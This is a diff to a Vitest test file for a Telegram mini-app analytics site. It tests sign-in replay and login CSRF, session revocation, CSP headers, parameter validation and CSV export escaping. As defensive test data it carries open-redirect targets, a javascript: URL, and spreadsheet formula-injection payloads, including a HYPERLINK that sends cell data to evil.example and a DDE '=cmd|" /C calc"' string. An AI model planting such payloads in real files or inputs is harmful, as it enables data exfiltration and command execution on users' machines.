@@ -7,8 +7,8 @@ import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { runCommand } from '../../src/cli/commands.ts';
 import { parseAppName, parseBotAddress, parseDomain } from '../../src/tokens/inputs.ts';
 import { makeEvent, postEvents } from '../helpers/events.ts';
-import { startTestService, type TestService } from '../helpers/service.ts';
-import { BOT_TOKEN, signedInitData, signWidget, SiteClient, widgetPayload, widgetRedirect, type TelegramUser } from './site-harness.ts';
+import type { TestService } from '../helpers/service.ts';
+import { eventually, signedInitData, signWidget, SiteClient, startSiteService, widgetPayload, widgetRedirect, type Answer, type TelegramUser } from './site-harness.ts';
 
 const ALICE: TelegramUser = { id: 1001, first_name: 'Alice', last_name: 'Liddell', username: 'alice' };
 const BOB: TelegramUser = { id: 2002, first_name: 'Bob', username: 'bob' };
@@ -22,11 +22,12 @@ let bob: SiteClient;
 let admin: SiteClient;
 
 beforeAll(async () => {
-  service = await startTestService({ BOT_TOKEN, ADMIN_TELEGRAM_IDS: String(ADMIN.id), RATE_LIMIT_MAX: '100000', PUBLIC_URL });
+  service = await startSiteService({ ADMIN_TELEGRAM_IDS: String(ADMIN.id), RATE_LIMIT_MAX: '100000', PUBLIC_URL });
   [alice, bob, admin] = await Promise.all([ALICE, BOB, ADMIN].map((user) => SiteClient.signedIn(service.url, user)));
 });
 afterAll(() => service?.close());
 
+const anonymousGet = (path: string) => new SiteClient(service.url).get(path);
 const errorOf = (parsed: { ok: true } | { ok: false; error: string }) => (parsed.ok ? 'accepted' : parsed.error);
 const now = () => Math.floor(Date.now() / 1000);
 
@@ -35,6 +36,7 @@ async function appRow(appName: string) {
 }
 
 async function eventCount(appName: string): Promise<number> {
+  await service.loaded();
   const [row] = await service.store.sql.query<{ n: number }>(
     'SELECT count(*)::int AS n FROM events e JOIN apps a ON a.id = e.app_id WHERE a.app_name = $1',
     [appName],
@@ -52,7 +54,7 @@ async function create(client: SiteClient, appName: string, domain = `${appName.r
 describe('sign-in with the Telegram Login Widget', () => {
   it('accepts a genuine payload: a signed, httpOnly, SameSite session cookie and a redirect to next', async () => {
     const client = new SiteClient(service.url);
-    const answer = await client.get(widgetRedirect(widgetPayload(ALICE), '/analytics/some_app'));
+    const answer = await client.sendWidgetPayload(widgetPayload(ALICE), '/analytics/some_app');
     expect(answer.status).toBe(302);
     expect(answer.headers.get('location')).toBe('/analytics/some_app');
     const cookie = answer.sessionCookie!;
@@ -70,12 +72,13 @@ describe('sign-in with the Telegram Login Widget', () => {
 
   it('accepts a payload a few hours old (the 24 h window) and never redirects off-site', async () => {
     const client = new SiteClient(service.url);
-    const answer = await client.get(widgetRedirect(widgetPayload(BOB, { authDate: now() - 23 * 3600 }), '//evil.example/steal'));
+    const answer = await client.get(widgetRedirect(widgetPayload(BOB, { authDate: now() - 23 * 3600 }), '//evil.example/steal', await client.loginState()));
     expect(answer.status).toBe(302);
     expect(answer.headers.get('location')).toBe('/analytics');
     expect(client.cookie).toBeDefined();
     for (const next of ['https://evil.example/', '/\\evil.example', 'javascript:alert(1)']) {
-      const again = await new SiteClient(service.url).get(widgetRedirect(widgetPayload(BOB), next));
+      const browser = new SiteClient(service.url);
+      const again = await browser.get(widgetRedirect(widgetPayload(BOB), next, await browser.loginState()));
       expect(again.headers.get('location'), next).toBe('/analytics');
     }
   });
@@ -99,15 +102,17 @@ describe('sign-in with the Telegram Login Widget', () => {
     };
     for (const [what, payload] of Object.entries(forged)) {
       const client = new SiteClient(service.url);
-      const answer = await client.get(widgetRedirect(payload));
+      const answer = await client.sendWidgetPayload(payload);
       expect(answer.status, what).toBe(403);
       expect(answer.sessionCookie, what).toBeUndefined();
       expect(answer.headers.get('content-type')).toMatch(/^text\/html/);
       expect(answer.text, what).toContain('The Telegram login data is invalid or expired.');
     }
     // a second id appended to a genuine payload must not be taken for either
-    const duplicated = await new SiteClient(service.url).get(`${widgetRedirect(genuine)}&id=${ADMIN.id}`);
-    expect(duplicated.status).toBe(403);
+    const browser = new SiteClient(service.url);
+    const duplicated = await browser.get(`${widgetRedirect(genuine, '/analytics', await browser.loginState())}&id=${ADMIN.id}`);
+    expect(duplicated.status).toBe(400);
+    expect(duplicated.json).toEqual({ message: 'The query parameter "id" must be given once, as string.' });
     expect(duplicated.sessionCookie).toBeUndefined();
   });
 
@@ -125,7 +130,7 @@ describe('sign-in with the Telegram Login Widget', () => {
     }
   });
 
-  it('asks for sign-in: 401 on the API, a redirect to /login on pages; /logout clears the cookie', async () => {
+  it('asks for sign-in: 401 on the API, a redirect to /login on pages; signing out clears the cookie', async () => {
     const anonymous = new SiteClient(service.url);
     expect((await anonymous.get('/api/me')).json).toEqual({ message: 'Sign in first.' });
     expect((await anonymous.get('/api/apps')).status).toBe(401);
@@ -137,8 +142,9 @@ describe('sign-in with the Telegram Login Widget', () => {
     expect((await anonymous.get('/login')).status).toBe(200);
 
     const client = await SiteClient.signedIn(service.url, BOB);
-    const out = await client.get('/logout');
-    expect(out.status).toBe(302);
+    const out = await client.request('POST', '/logout', { headers: { 'content-type': 'application/x-www-form-urlencoded' } });
+    expect(out.status).toBe(303);
+    expect(out.headers.get('location')).toBe('/');
     expect(out.sessionCookie).toMatch(/^tma_session=;/);
     expect(out.sessionCookie).toMatch(/Expires=Thu, 01 Jan 1970|Max-Age=0/i);
     expect(client.cookie).toBeUndefined();
@@ -180,10 +186,168 @@ describe('sign-in in Mini App mode (initData)', () => {
     expect(noBody.sessionCookie).toBeUndefined();
   });
 
-  it('serves the /webapp page that posts Telegram.WebApp.initData', async () => {
+  it('serves the /webapp page whose script posts Telegram.WebApp.initData', async () => {
     const page = await new SiteClient(service.url).get('/webapp');
     expect(page.status).toBe(200);
-    expect(page.text).toContain("fetch('/auth/webapp'");
+    expect(page.text).toContain('<script src="/assets/webapp.js"></script>');
+    const script = await new SiteClient(service.url).get('/assets/webapp.js');
+    expect(script.text).toContain("fetch('/auth/webapp'");
+  });
+
+  it('keeps a Mini App session in the cookie Telegram\'s web frame can hold: SameSite=None, Secure, Partitioned', async () => {
+    const answer = await new SiteClient(service.url).post('/auth/webapp', { initData: signedInitData(BOB) });
+    expect(answer.status).toBe(200);
+    expect(answer.sessionCookie).toMatch(/; SameSite=None/i);
+    expect(answer.sessionCookie).toMatch(/; Secure/i);
+    expect(answer.sessionCookie).toMatch(/; Partitioned/i);
+  });
+
+  it('signs in once per initData: a replay in another browser is refused; the same Mini App reloading stays signed in', async () => {
+    const initData = signedInitData({ id: 3003, first_name: 'Carol' });
+    const carol = new SiteClient(service.url);
+    expect((await carol.post('/auth/webapp', { initData })).status).toBe(200);
+    const reload = await carol.post('/auth/webapp', { initData });
+    expect(reload.status).toBe(200);
+    expect(reload.json).toEqual({ name: 'Carol' });
+    expect((await carol.get('/api/me')).status).toBe(200);
+    const thief = new SiteClient(service.url);
+    const replay = await thief.post('/auth/webapp', { initData });
+    expect(replay.status).toBe(403);
+    expect(replay.json).toEqual({ message: 'This Mini App sign-in was already used. Open the dashboard from the bot again.' });
+    expect(replay.sessionCookie).toBeUndefined();
+    expect((await thief.get('/api/me')).status).toBe(401);
+  });
+
+  it('refuses initData posted from another site', async () => {
+    const answer = await new SiteClient(service.url).post('/auth/webapp', { initData: signedInitData(BOB) }, { origin: 'https://evil.example' });
+    expect(answer.status).toBe(403);
+    expect(answer.sessionCookie).toBeUndefined();
+  });
+});
+
+describe('sign-in payloads work once, in the browser that asked for them', () => {
+  it('refuses a replayed Login Widget payload in another browser (it would sign the victim in as someone else)', async () => {
+    const payload = widgetPayload({ id: 4004, first_name: 'Dave' });
+    const dave = new SiteClient(service.url);
+    expect((await dave.sendWidgetPayload(payload)).status).toBe(302);
+    const victim = new SiteClient(service.url);
+    const replay = await victim.sendWidgetPayload(payload);
+    expect(replay.status).toBe(403);
+    expect(replay.text).toContain('This Telegram login was already used. Sign in again.');
+    expect(replay.sessionCookie).toBeUndefined();
+    expect((await victim.get('/api/me')).status).toBe(401);
+    // the back button in Dave's own browser lands him where he was, still signed in
+    const back = await dave.sendWidgetPayload(payload);
+    expect(back.status).toBe(302);
+    expect((await dave.get('/api/me')).json).toEqual({ name: 'Dave', is_admin: false });
+  });
+
+  it('refuses a fresh payload sent to a browser that did not open the sign-in page (login CSRF)', async () => {
+    const payload = widgetPayload({ id: 4005, first_name: 'Mallory' });
+    const victim = new SiteClient(service.url);
+    const withoutState = await victim.get(widgetRedirect(payload));
+    expect(withoutState.status).toBe(403);
+    expect(withoutState.text).toContain('This sign-in did not start on this browser&#39;s sign-in page.');
+    expect(withoutState.sessionCookie).toBeUndefined();
+    // the attacker's own state does not work in the victim's browser either
+    const attacker = new SiteClient(service.url);
+    const foreign = await victim.get(widgetRedirect(payload, '/analytics', await attacker.loginState()));
+    expect(foreign.status).toBe(403);
+    expect(foreign.sessionCookie).toBeUndefined();
+    expect((await victim.get('/api/me')).status).toBe(401);
+    // the payload was not used up by the refused attempts
+    expect((await attacker.sendWidgetPayload(payload)).status).toBe(302);
+  });
+
+  it('keeps one sign-in state per browser, so two open sign-in pages both work', async () => {
+    const browser = new SiteClient(service.url);
+    const first = await browser.widgetAuthUrl('/analytics');
+    const second = await browser.widgetAuthUrl('/catalog');
+    expect(new URL(second, 'http://x').searchParams.get('state')).toBe(new URL(first, 'http://x').searchParams.get('state'));
+    const answer = await browser.get(`${first}&${new URLSearchParams(widgetPayload({ id: 4006, first_name: 'Nia' })).toString()}`);
+    expect(answer.status).toBe(302);
+    expect(answer.headers.get('location')).toBe('/analytics');
+  });
+});
+
+describe('sessions that really end', () => {
+  /** a second browser holding a copy of the first one's session cookie */
+  function copyOf(client: SiteClient): SiteClient {
+    const copy = new SiteClient(service.url);
+    copy.cookie = client.cookie;
+    return copy;
+  }
+
+  it('ends the session on sign-out: a saved copy of the cookie no longer works anywhere', async () => {
+    const erin = await SiteClient.signedIn(service.url, { id: 5005, first_name: 'Erin' });
+    const saved = copyOf(erin);
+    expect((await saved.get('/api/me')).status).toBe(200);
+    const out = await erin.request('POST', '/logout', { headers: { 'content-type': 'application/x-www-form-urlencoded' } });
+    expect(out.status).toBe(303);
+    expect((await saved.get('/api/me')).status).toBe(401);
+    expect((await saved.get('/analytics')).status).toBe(302);
+    // signing in again gives a new, working session
+    const again = await SiteClient.signedIn(service.url, { id: 5005, first_name: 'Erin' });
+    expect((await again.get('/api/me')).status).toBe(200);
+    expect((await saved.get('/api/me')).status).toBe(401);
+  });
+
+  it('signs out by a same-origin POST only: a link or another site\'s form leaves the session alive', async () => {
+    const frank = await SiteClient.signedIn(service.url, { id: 5006, first_name: 'Frank' });
+    const page = await frank.get('/logout');
+    expect(page.status).toBe(200);
+    expect(page.text).toContain('<form method="post" action="/logout">');
+    const form = { 'content-type': 'application/x-www-form-urlencoded' };
+    expect((await frank.request('POST', '/logout', { headers: form, origin: 'https://evil.example' })).status).toBe(403);
+    expect((await frank.request('POST', '/logout', { headers: form, origin: null })).status).toBe(403);
+    expect((await frank.get('/api/me')).status).toBe(200);
+    expect(frank.cookie).toBeDefined();
+    // the page's own fetch (JSON) works too
+    expect((await frank.post('/logout', {})).status).toBe(204);
+    expect((await copyOf(frank).get('/api/me')).status).toBe(401);
+  });
+
+  it('shows a sign-out form, not a link, on every page of a signed-in user', async () => {
+    const grace = await SiteClient.signedIn(service.url, { id: 5007, first_name: 'Grace' });
+    for (const path of ['/', '/analytics', '/login']) {
+      const page = await grace.get(path);
+      expect(page.text, path).toContain('<form class="signout" method="post" action="/logout">');
+      expect(page.text, path).not.toContain('href="/logout"');
+    }
+  });
+
+  it('lets an administrator end every session of a user from the site; nobody else', async () => {
+    const heidi = { id: 5008, first_name: 'Heidi' };
+    const [laptop, phone] = [await SiteClient.signedIn(service.url, heidi), new SiteClient(service.url)];
+    expect((await phone.post('/auth/webapp', { initData: signedInitData(heidi) })).status).toBe(200);
+    const refused = await alice.post('/api/sessions/end', { telegram_id: String(heidi.id) });
+    expect(refused.status).toBe(403);
+    expect((await laptop.get('/api/me')).status).toBe(200);
+    expect((await admin.post('/api/sessions/end', { telegram_id: 'heidi' })).json).toEqual({ message: 'A Telegram user id is a number.', field: 'telegram_id' });
+    expect((await admin.post('/api/sessions/end', { telegram_id: String(heidi.id) }, { origin: 'https://evil.example' })).status).toBe(403);
+    expect((await laptop.get('/api/me')).status).toBe(200);
+    const ended = await admin.post('/api/sessions/end', { telegram_id: String(heidi.id) });
+    expect(ended.status).toBe(200);
+    expect(ended.json).toEqual({ ended: 2 });
+    expect((await laptop.get('/api/me')).status).toBe(401);
+    expect((await phone.get('/api/me')).status).toBe(401);
+    expect((await admin.get('/api/me')).status).toBe(200);
+    const view = await admin.get('/analytics?all=1');
+    expect(view.text).toContain('<form id="end-sessions"');
+    expect((await alice.get('/analytics?all=1')).text).not.toContain('end-sessions');
+  });
+
+  it('lets the operator end a user\'s sessions from the CLI; every node honours it within seconds', async () => {
+    const ivan = { id: 5009, first_name: 'Ivan' };
+    const client = await SiteClient.signedIn(service.url, ivan);
+    expect((await client.get('/api/me')).status).toBe(200);
+    const result = await runCommand(service.services, ['sessions', 'end', '--telegram-id', String(ivan.id), '--json']);
+    expect(result.exitCode, result.stderr).toBe(0);
+    expect(JSON.parse(result.stdout)).toEqual({ ended: 1 });
+    await eventually(async () => ((await client.get('/api/me')).status === 401 ? true : undefined), 'the session to end', 5_000);
+    const bad = await runCommand(service.services, ['sessions', 'end', '--telegram-id', 'ivan']);
+    expect(bad.exitCode).toBe(2);
+    expect(bad.stderr).toContain('a Telegram user id must be numeric');
   });
 });
 
@@ -459,6 +623,110 @@ describe('who may see and change an app', () => {
   });
 });
 
+/** the Content-Security-Policy's directives by name */
+function csp(headers: Headers): Record<string, string> {
+  const header = headers.get('content-security-policy');
+  expect(header, 'a Content-Security-Policy').toBeTruthy();
+  return Object.fromEntries(header!.split(';').map((part) => part.trim()).filter(Boolean).map((part) => [part.split(' ')[0]!, part.split(' ').slice(1).join(' ')]));
+}
+
+const TELEGRAM_FRAMES = 'https://web.telegram.org https://*.web.telegram.org https://webk.telegram.org https://webz.telegram.org https://weba.telegram.org';
+
+describe('security headers', () => {
+  it('sends a strict CSP, no framing, nosniff and a referrer policy with every site page and API answer', async () => {
+    await create(alice, 'headers_app');
+    const answers: Record<string, Answer> = {
+      '/': await anonymousGet('/'),
+      '/login': await anonymousGet('/login'),
+      '/catalog': await anonymousGet('/catalog'),
+      '/api/catalog': await anonymousGet('/api/catalog'),
+      '/assets/common.js': await anonymousGet('/assets/common.js'),
+      '/analytics': await alice.get('/analytics'),
+      '/analytics/headers_app': await alice.get('/analytics/headers_app'),
+      '/api/me': await alice.get('/api/me'),
+      '/api/apps': await alice.get('/api/apps'),
+      '/api/apps/headers_app/dashboard': await alice.get('/api/apps/headers_app/dashboard?days=7'),
+      '/api/apps/headers_app/export.csv': await alice.get('/api/apps/headers_app/export.csv?days=7'),
+      'POST /api/apps (refused)': await alice.post('/api/apps', {}),
+      '/logout': await (await SiteClient.signedIn(service.url, { id: 6007, first_name: 'Kim' })).get('/logout'),
+      'refused sign-in': await anonymousGet('/login/link?token=forged'),
+      '/api/no-such-route (404)': await alice.get('/api/no-such-route'),
+    };
+    for (const [what, answer] of Object.entries(answers)) {
+      expect(answer.status, what).toBeLessThan(500);
+      const policy = csp(answer.headers);
+      expect(policy['frame-ancestors'], what).toBe("'none'");
+      expect(policy['default-src'], what).toBe("'self'");
+      expect(policy['object-src'], what).toBe("'none'");
+      expect(policy['base-uri'], what).toBe("'none'");
+      expect(policy['script-src'], what).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
+      expect(answer.headers.get('x-frame-options'), what).toBe('DENY');
+      expect(answer.headers.get('x-content-type-options'), what).toBe('nosniff');
+      expect(answer.headers.get('referrer-policy'), what).toMatch(/^(same-origin|strict-origin-when-cross-origin)$/);
+      expect(answer.headers.get('strict-transport-security'), what).toBe('max-age=15552000'); // PUBLIC_URL is https
+      expect(answer.headers.get('x-powered-by'), what).toBeNull();
+    }
+    for (const page of ['/', '/login', '/catalog', '/analytics', '/analytics/headers_app', '/logout']) {
+      expect(answers[page]!.text, `${page}: an inline script the CSP would block`).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/);
+    }
+    expect(csp(answers['/analytics']!.headers)['script-src']).toBe("'self'");
+    expect(answers['/api/catalog']!.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
+    expect(answers['/api/apps']!.headers.get('cross-origin-resource-policy')).toBe('same-origin');
+  });
+
+  it('lets /login load exactly the Login Widget: its script from telegram.org and its frame from oauth.telegram.org', async () => {
+    const policy = csp((await anonymousGet('/login')).headers);
+    expect(policy['script-src']).toBe("'self' https://telegram.org/js/telegram-widget.js");
+    expect(policy['frame-src']).toBe('https://oauth.telegram.org');
+    expect(csp((await anonymousGet('/')).headers)['frame-src']).toBe("'none'");
+  });
+
+  it('lets exactly Telegram\'s web clients frame the Mini App mode: /webapp and the pages of a session begun there', async () => {
+    const webapp = await anonymousGet('/webapp');
+    expect(csp(webapp.headers)['frame-ancestors']).toBe(TELEGRAM_FRAMES);
+    expect(webapp.headers.get('x-frame-options')).toBeNull();
+    const miniApp = new SiteClient(service.url);
+    expect((await miniApp.post('/auth/webapp', { initData: signedInitData({ id: 6006, first_name: 'Judy' }) })).status).toBe(200);
+    for (const path of ['/analytics', '/analytics/some_app', '/catalog', '/']) {
+      const page = await miniApp.get(path);
+      expect(csp(page.headers)['frame-ancestors'], path).toBe(TELEGRAM_FRAMES);
+      expect(page.headers.get('x-frame-options'), path).toBeNull();
+    }
+    // the same user signed in with the widget in a browser: no framing at all
+    const browser = await SiteClient.signedIn(service.url, { id: 6006, first_name: 'Judy' });
+    expect(csp((await browser.get('/analytics')).headers)['frame-ancestors']).toBe("'none'");
+    expect((await browser.get('/analytics')).headers.get('x-frame-options')).toBe('DENY');
+  });
+
+  it('leaves the mini apps\' endpoints alone: /events and the SDK script load from any site', async () => {
+    const sdk = await anonymousGet('/index.js');
+    expect(sdk.status).toBe(200);
+    expect(sdk.headers.get('content-security-policy')).toBeNull();
+    expect(sdk.headers.get('cross-origin-resource-policy')).toBeNull();
+    const events = await postEvents(service.url, [makeEvent('nobody_app')], { token: 'tma_unknown' });
+    expect(events.headers.get('content-security-policy')).toBeNull();
+  });
+});
+
+describe('bad parameters', () => {
+  it('answers 400 with a readable message to repeated, NUL-carrying and oversized parameters, never 500', async () => {
+    const cases: [string, SiteClient, number, string | undefined][] = [
+      ['/login/link?token=a&token=b', new SiteClient(service.url), 400, 'The query parameter "token" must be given once, as string.'],
+      ['/api/apps/app_b%00', alice, 400, 'The app name must be 3–64 characters: lowercase letters, digits, "_" or "-".'],
+      ['/api/apps/app_b%00/dashboard?days=7', alice, 400, undefined],
+      ['/api/apps/app_b/dashboard?days=7&days=30', alice, 400, 'The query parameter "days" must be given once, as string.'],
+      [`/login?next=${'a'.repeat(5000)}`, new SiteClient(service.url), 400, undefined],
+      ['/analytics?all=1&all=1', alice, 400, undefined],
+      ['/api/apps/%E0%A4%A', alice, 400, undefined],
+    ];
+    for (const [path, client, status, message] of cases) {
+      const answer = await client.get(path);
+      expect(answer.status, path).toBe(status);
+      if (message) expect(answer.json?.message, path).toBe(message);
+    }
+  });
+});
+
 describe('CSRF and CORS', () => {
   it('refuses writes from another origin with 403 and changes nothing', async () => {
     const token = await create(alice, 'csrf_target');
@@ -549,6 +817,7 @@ const noon = (daysAgo: number, second: number) => String(Date.parse(`${dayString
 const FULL_FUNNEL = ['app-init', 'connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signed'];
 const TRICKY = { name: 'checkout', note: 'a, "quoted" value\nsecond line, with comma', empty: '', nested: { list: [1, 'two, "three"'] } };
 const U = [7100000001, 7100000002, 7100000003, 7100000004];
+const CSV_HEADER = 'received_at,occurred_at,event_name,session_id,user,platform,locale,start_param,is_premium,is_success,props';
 
 /** sessions: user, day (days ago), launch dimensions and the events in order */
 const SESSIONS = [
@@ -832,11 +1101,48 @@ describe('dashboard numbers and exports', () => {
     expect((await alice.get(`/api/apps/${APP}/export.csv?days=12`)).status).toBe(400);
   });
 
+  it('exports CSV no spreadsheet can run: every text cell quoted, no formula after any separator', async () => {
+    const token = await create(alice, 'csv_formula');
+    const hostile = 'x;=HYPERLINK("https://evil.example/?"&A1;"open");+1|@SUM(1)\t-2,=3';
+    const events = [
+      makeEvent('csv_formula', { platform: '=cmd|" /C calc"!A0', locale: 'en;=1+1', start_param: '@import', custom_data: { note: hostile, list: ['a;-1+2', 'b|=3'], n: -5 } }),
+      makeEvent('csv_formula', { platform: 'ios', custom_data: { note: 'plain' } }),
+    ];
+    const posted = await postEvents(service.url, events, { token, origin: 'https://csv-formula.example.com' });
+    expect(posted.status, posted.text).toBe(201);
+    const answer = await eventually(async () => {
+      const csv = await alice.get('/api/apps/csv_formula/export.csv?days=7');
+      return csv.text.trimEnd().split('\n').length === 3 ? csv : undefined;
+    }, 'both events in the export');
+    const [header, ...lines] = answer.text.trimEnd().split('\n');
+    expect(header).toBe(CSV_HEADER);
+    // what a spreadsheet sees when it splits on any of these, with or without honouring quotes
+    for (const separator of [',', ';', '\t', '|']) {
+      for (const line of lines) {
+        for (const piece of line!.split(separator)) {
+          expect(piece.replace(/^"/, ''), `split on ${JSON.stringify(separator)}: ${piece}`).not.toMatch(/^[=+\-@\t\r]/);
+        }
+      }
+    }
+    const rows = parseCsv(answer.text).slice(1);
+    for (const row of rows) {
+      expect(row).toHaveLength(11);
+      for (const [index, cell] of row.entries()) if (![8, 9].includes(index)) expect(lines.join('\n')).toContain(`"${cell.replace(/"/g, '""')}"`);
+    }
+    const record = rows.find((row) => row[10]!.includes('HYPERLINK'))!;
+    // the props stay the exact JSON of what was sent
+    expect(JSON.parse(record[10]!)).toEqual({ custom_data: events[0]!.custom_data });
+    // text cells are kept readable: a quote mark before each formula start
+    expect(record[5]).toBe(`'=cmd|" /C calc"!A0`);
+    expect(record[6]).toBe(`en;'=1+1`);
+    expect(record[7]).toBe(`'@import`);
+  });
+
   it('exports a header only for an app without events in the period', async () => {
     await create(alice, 'quiet_app');
     const csv = await alice.get('/api/apps/quiet_app/export.csv?days=7');
     expect(csv.status).toBe(200);
-    expect(csv.text).toBe('received_at,occurred_at,event_name,session_id,user,platform,locale,start_param,is_premium,is_success,props\n');
+    expect(csv.text).toBe(`${CSV_HEADER}\n`);
     const ndjson = await alice.get('/api/apps/quiet_app/export.ndjson?days=7');
     expect(ndjson.status).toBe(200);
     expect(ndjson.text).toBe('');
